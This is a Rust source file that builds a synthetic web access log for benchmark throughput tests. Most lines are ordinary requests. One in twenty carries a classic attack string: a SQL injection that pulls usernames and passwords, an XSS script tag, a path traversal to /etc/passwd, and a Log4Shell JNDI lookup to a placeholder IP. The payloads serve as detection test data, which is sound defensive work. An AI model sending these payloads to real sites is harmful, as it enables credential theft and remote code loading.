//! Synthetic combined-format access log for throughput measurements (the
//! criterion bench `benches/web.rs` and `examples/web_bench.rs`): ordinary
//! requests of a busy site with one attack in 20.

/// `n` lines: mostly ordinary traffic, one in 20 an attack, as a busy site sees.
pub fn synthetic_log(n: usize) -> Vec<u8> {
    const PATHS: &[&str] = &[
        "/",
        "/index.html",
        "/products?id=42&sort=price",
        "/static/app.3f2a.js",
        "/search?q=red+shoes&page=2",
        "/api/v1/cart?session=8f3a9c",
        "/blog/2024/01/hello-world",
        "/images/logo.png",
        "/login",
        "/about-us",
        "/news?id=17",
        "/css/site.css",
        "/favicon.ico",
        "/account/orders?page=3",
        "/category/shoes?color=red&size=42",
        "/search?q=o%27reilly+books",
        "/api/v1/items/991",
        "/robots.txt",
        "/sitemap.xml",
    ];
    const ATTACKS: &[&str] = &[
        "/item.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/dl?f=../../../../etc/passwd",
        "/?x=${jndi:ldap://198.51.100.1/a}",
    ];
    let mut out = Vec::with_capacity(n * 160);
    for i in 0..n {
        let p = if i % 20 == 7 {
            ATTACKS[i / 20 % ATTACKS.len()]
        } else {
            PATHS[i % PATHS.len()]
        };
        let ip = format!("198.51.{}.{}", (i / 250) % 250, i % 250);
        out.extend_from_slice(format!(
            "{ip} - - [10/Oct/2023:13:{:02}:{:02} +0000] \"GET {p} HTTP/1.1\" 200 {} \"https://www.example.com/\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\"\n",
            (i / 60) % 60, i % 60, 500 + i % 7000
        ).as_bytes());
    }
    out
}
